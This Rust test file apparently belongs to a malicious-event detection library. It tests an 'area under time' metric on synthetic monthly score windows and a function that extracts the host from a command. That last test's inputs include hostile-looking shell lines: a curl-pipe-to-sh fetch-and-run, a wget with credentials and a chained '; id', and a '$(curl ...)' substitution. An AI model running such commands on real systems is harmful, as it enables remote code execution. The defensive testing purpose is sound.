//! Tests of the area under time.

use super::*;
use ringtrue_core::EventTime;

/// Months of 400 benign and so many malicious events, of which a share is ranked above all benign ones.
fn windows(months: &[(i16, i8, u32, f64)]) -> Vec<Window> {
    let sheet = CostSheet::default();
    let thresholds = Thresholds {
        review: 0.5,
        block: 0.9,
    };
    let mut judged = Judged::default();
    for (year, month, malicious, share) in months {
        let time = Some(EventTime::from_date(*year, *month, 3));
        for n in 0..400 {
            let score = 0.5 * f64::from(n) / 400.0;
            judged.push(score, Label::Benign, sheet.prices(), time);
        }
        for n in 0..*malicious {
            let is_caught = f64::from(n) < share * f64::from(*malicious);
            let score = if is_caught { 0.95 } else { 0.0 };
            judged.push(score, Label::Malicious, sheet.prices(), time);
        }
    }
    let all: Vec<u32> = (0_u32..).take(judged.len()).collect();
    judge_by_month(&judged, &all, &setting(thresholds, &[], &sheet)).unwrap()
}

#[test]
fn a_gap_between_months_counts_for_its_length() {
    let found = windows(&[
        (2022, 1, 100, 1.0),
        (2022, 2, 100, 1.0),
        (2022, 12, 100, 0.0),
    ]);
    let aut = area_under_time(&found).unwrap();
    // One month at 1, then ten on the way from 1 to 0.
    assert!((aut.area - 6.0 / 11.0).abs() < 1e-12, "{aut:?}");
    assert!(aut.fpr > 0.009 && aut.left_out.is_empty(), "{aut:?}");
}

#[test]
fn a_month_of_too_few_events_is_left_out_by_name() {
    let found = windows(&[
        (2021, 12, 100, 0.8),
        (2022, 1, 3, 1.0),
        (2022, 2, 100, 0.8),
        (2022, 3, 100, 0.8),
    ]);
    let aut = area_under_time(&found).unwrap();
    assert_eq!(aut.left_out, ["2022-01"]);
    assert!((aut.area - 0.8).abs() < 1e-12, "{aut:?}");
}

#[test]
fn why_there_is_no_area_is_said() {
    let none = area_under_time(&[]).unwrap_err();
    assert_eq!(none, "the events have no times");
    let one = area_under_time(&windows(&[(2022, 5, 100, 1.0)])).unwrap_err();
    assert!(one.ends_with("of one month: 2022-05"), "{one}");
    let few = windows(&[(2022, 5, 100, 1.0), (2022, 6, 3, 1.0)]);
    let few = area_under_time(&few).unwrap_err();
    assert!(few.starts_with("fewer than two months"), "{few}");
}

#[test]
fn a_host_ends_where_the_shell_goes_on() {
    for (text, expected) in [
        ("https://WWW.a.example/b?c", Some("a.example")),
        ("curl -s http://a.example | sh", Some("a.example")),
        (
            "wget 'http://ann:pw@a.example:81'; id",
            Some("a.example:81"),
        ),
        ("$(curl http://a.example)", Some("a.example")),
        ("ls -la", None),
    ] {
        assert_eq!(host(text).as_deref(), expected, "{text}");
    }
}
